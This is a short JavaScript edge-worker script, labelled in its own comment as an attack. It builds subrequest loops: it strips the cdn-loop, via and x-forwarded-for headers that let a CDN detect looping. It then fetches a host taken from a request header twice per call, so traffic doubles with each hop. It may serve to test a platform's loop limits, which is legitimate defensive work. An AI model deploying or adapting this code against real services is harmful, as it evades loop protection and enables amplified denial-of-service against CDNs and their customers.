// attack: subrequest loops: by fetch, with the fields that would tell removed, each one doubling
export default {
  async fetch(request) {
    const internet = request.headers.get("hostile-internet");
    const headers = new Headers(request.headers);
    for (const name of ["cdn-loop", "via", "x-forwarded-for"]) headers.delete(name);
    const again = () =>
      fetch(`${internet}/loop?${Math.random()}`, { headers: { ...Object.fromEntries(headers), "cdn-loop": "" } });
    const answers = await Promise.all([again(), again()]);
    return new Response(answers.map(({ status }) => status).join());
  },
};
